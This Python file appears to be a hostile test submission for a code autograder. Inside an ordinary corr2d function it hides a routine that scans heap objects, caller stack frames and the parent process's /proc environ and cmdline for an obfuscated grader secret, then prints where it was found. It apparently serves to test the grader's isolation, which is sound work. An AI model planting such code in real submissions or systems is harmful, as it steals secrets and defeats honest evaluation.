"""Hostile: hunts for the grader's secret in memory (gc, after unfreezing the worker's heap),
in the frames above its call, in the environment and in /proc, and prints whatever it finds
(the public cases' output is shown to the student)."""

import gc
import os
import sys

DONE = []  # hunt once
CODES = (116, 111, 112, 115, 101, 99, 114, 101, 116)  # the needle, spelled at run time


def _has(value):
    try:
        return _look(value)
    except Exception:
        return False


def _look(value):
    NEEDLE = "".join(map(chr, CODES))
    if isinstance(value, str):
        return NEEDLE in value
    if isinstance(value, (bytes, bytearray)):
        return NEEDLE.encode() in value
    if isinstance(value, dict):
        return any(isinstance(v, (str, bytes)) and _has(v) for v in list(value.values())[:1000])
    if isinstance(value, (list, tuple)):
        return any(isinstance(v, (str, bytes)) and _has(v) for v in value[:1000])
    return False


def _hunt():
    if DONE:
        return
    DONE.append(1)
    found = []
    gc.unfreeze()
    for obj in gc.get_objects():
        if _has(obj):
            found.append(type(obj).__name__)
    frame = sys._getframe()
    while frame is not None:
        found += [f"frame {n}" for n, v in list(frame.f_locals.items()) if _has(v) or isinstance(getattr(v, "__dict__", None), dict) and _has(v.__dict__)]
        frame = frame.f_back
    for path in ("/proc/self/environ", f"/proc/{os.getppid()}/environ", f"/proc/{os.getppid()}/cmdline"):
        try:
            with open(path, "rb") as f:
                if _has(f.read()):
                    found.append(path)
        except OSError:
            pass
    print("hunted:", "FOUND " + ", ".join(found[:10]) if found else "nothing")


def corr2d(X, K):
    _hunt()
    h, w = K.shape
    return X.unfold(0, h, 1).unfold(1, w, 1).mul(K).sum((-1, -2))
